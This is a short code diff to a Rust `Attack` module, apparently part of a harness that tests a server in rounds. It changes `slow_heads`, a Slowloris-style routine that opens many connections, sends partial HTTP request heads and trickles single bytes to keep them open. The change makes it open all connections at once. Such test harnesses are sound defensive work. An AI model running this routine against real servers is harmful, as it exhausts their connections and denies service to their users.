@@ -125,9 +125,9 @@ impl Attack {
         }
     }
 
-    /// `count` partial heads held open from `from`, a byte more sent on
-    /// each every few milliseconds, the oldest closed and another opened
-    /// in turn: round 6's first attack.
+    /// `count` partial heads held open from `from`, opened at once, then a
+    /// byte more sent on each every few milliseconds, the oldest closed and
+    /// another opened in turn: round 6's first attack.
     pub fn slow_heads(mut self, from: [u8; 4], to: SocketAddr, count: usize) -> Attack {
         let stop = Arc::clone(&self.stop);
         self.threads.push(std::thread::spawn(move || {
@@ -139,6 +139,9 @@ impl Attack {
                 let mut stream = connect_from(from, to);
                 let _ = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
                 held.push(stream);
+                if held.len() < count {
+                    continue;
+                }
                 for stream in &mut held {
                     let _ = stream.write_all(b"a");
                 }
